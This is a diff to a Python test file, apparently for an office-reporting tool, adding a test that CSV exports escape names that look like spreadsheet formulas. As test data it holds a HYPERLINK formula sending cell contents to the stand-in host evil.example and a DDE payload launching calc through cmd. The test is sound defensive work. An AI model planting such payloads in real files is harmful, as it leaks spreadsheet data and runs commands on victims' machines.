@@ -72,6 +72,20 @@ def test_writes_every_figure_per_office(world, tmp_path) -> None:
     assert "buergeramt" not in target.read_text(encoding="utf-8")
 
 
+def test_names_that_look_like_formulas_are_escaped_in_the_csv(world, tmp_path) -> None:
+    """As in the dashboard's export: a spreadsheet must not run an office's or authority's name."""
+    world.office_a.name = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
+    world.office_a.save()
+    world.authority.name = "+1+cmd|' /C calc'!A0"
+    world.authority.save()
+    target = tmp_path / "report.csv"
+    run("--authority", "testkreis", "--period", "all", "--csv", str(target))
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
+    names = [row["office_name"] for row in rows]
+    assert "'" + world.office_a.name in names and "'" + world.authority.name in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
 def test_named_periods(world) -> None:
     for name in ("today", "week", "month", "year", "all"):
         assert "Meetings: 0" in run("--authority", "testkreis", "--period", name)
